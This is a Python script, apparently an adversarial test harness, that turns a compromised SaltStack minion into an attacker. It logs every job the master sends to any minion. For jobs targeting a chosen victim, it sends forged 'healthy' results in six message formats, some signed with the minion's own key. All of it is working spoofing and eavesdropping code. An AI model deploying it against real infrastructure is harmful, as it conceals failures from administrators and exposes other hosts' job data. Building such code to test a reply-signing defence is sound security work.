"""A minion that somebody took over: it writes down every job of the master, and answers those of another in every form.

Run as `salt-minion`; the configuration has `hostile_log` (a file) and `hostile_victim` (whose jobs it answers).
"""

from __future__ import annotations

import asyncio
import base64
import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import salt.channel.client
import salt.crypt
import salt.minion
import salt.scripts
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.serialization import load_pem_private_key

LIE = {"healthy": True, "checks": 3, "seconds": 0.1, "last": "whatever you want to hear"}
FORMS = ("single", "events", "pretag", "return", "resource_id", "syndic")

running: set[asyncio.Task[None]] = set()
true_handler = salt.minion.Minion._handle_payload


async def listening(minion: Any, payload: Any) -> None:
    """What every minion of a master gets, whoever it is for."""
    if payload and payload.get("enc") == "aes":
        load = payload["load"]
        with Path(minion.opts["hostile_log"]).open("a") as log:
            log.write(json.dumps(load, default=repr) + "\n")
        if minion.opts["hostile_victim"] in load.get("tgt", ()):
            task = asyncio.create_task(answer(minion.opts, load))
            running.add(task)
            task.add_done_callback(running.discard)
    await true_handler(minion, payload)


async def answer(opts: dict[str, Any], job: dict[str, Any]) -> None:
    """Every lie in every form, and what the master made of each."""
    async with salt.channel.client.AsyncReqChannel.factory(opts) as channel:
        for form, load in forged(opts, job):
            try:
                await channel.send(load, timeout=10)
                outcome = "sent"
            except Exception as error:  # whatever the master makes of it
                outcome = f"{type(error).__name__}: {error}"
            with Path(opts["hostile_log"] + ".forged").open("a") as log:
                log.write(f"{job['jid']} {form} {outcome}\n")


def forged(opts: dict[str, Any], job: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    for content in lies(opts, job):
        for form in FORMS:
            yield form, in_form(form, opts, job, content)


def in_form(form: str, opts: dict[str, Any], job: dict[str, Any], content: dict[str, Any]) -> dict[str, Any]:
    """One lie as one kind of message to the master."""
    mine, victim, jid = opts["id"], opts["hostile_victim"], job["jid"]
    tag = f"salt/job/{jid}/ret/{victim}"
    event = {"id": mine, "cmd": "_minion_event", "tok": salt.crypt.SAuth(opts).gen_token(b"salt")}
    if form == "single":
        return {**event, **content, "id": mine, "tag": tag, "data": content, "pretag": None}
    if form == "events":
        return {**event, "events": [{"tag": tag, "data": content}], "pretag": None}
    if form == "pretag":
        return {**event, "events": [{"tag": f"{jid}/ret/{victim}", "data": content}], "pretag": "salt/job"}
    if form == "syndic":
        returns = {victim: {name: content[name] for name in ("return", "retcode", "success", "fun")}}
        return {"cmd": "_syndic_return", "id": mine, "jid": jid, "fun": job["fun"], "return": returns}
    resource = {"resource_id": victim} if form == "resource_id" else {}
    return {**content, "cmd": "_return", "id": mine if resource else victim, **resource}


def lies(opts: dict[str, Any], job: dict[str, Any]) -> Iterator[dict[str, Any]]:
    """A plain return, and returns that are signed: as the victim with this key, and as oneself."""
    victim, jid = opts["hostile_victim"], job["jid"]
    common = {"jid": jid, "id": victim, "fun": job["fun"], "fun_args": job["arg"], "retcode": 0, "success": True}
    yield {**common, "return": LIE}
    asked = next((item for item in job["arg"] if isinstance(item, dict) and "function" in item), {})
    for name in (victim, opts["id"]):
        facts = {"jid": jid, "id": name, "function": asked.get("function", job["fun"]), "return": LIE}
        yield {**common, "return": signed(opts, {**facts, "retcode": 0, "success": True})}


def signed(opts: dict[str, Any], facts: dict[str, Any]) -> dict[str, str]:
    key: Any = load_pem_private_key((Path(opts["pki_dir"]) / "minion.pem").read_bytes(), None)
    text = json.dumps(facts)
    signature = key.sign(b"saltlick reply 1\n" + text.encode(), padding.PKCS1v15(), hashes.SHA256())
    return {"signed": text, "signature": base64.b64encode(signature).decode()}


if __name__ == "__main__":
    salt.minion.Minion._handle_payload = listening
    sys.argv[0] = "salt-minion"
    salt.scripts.salt_minion()
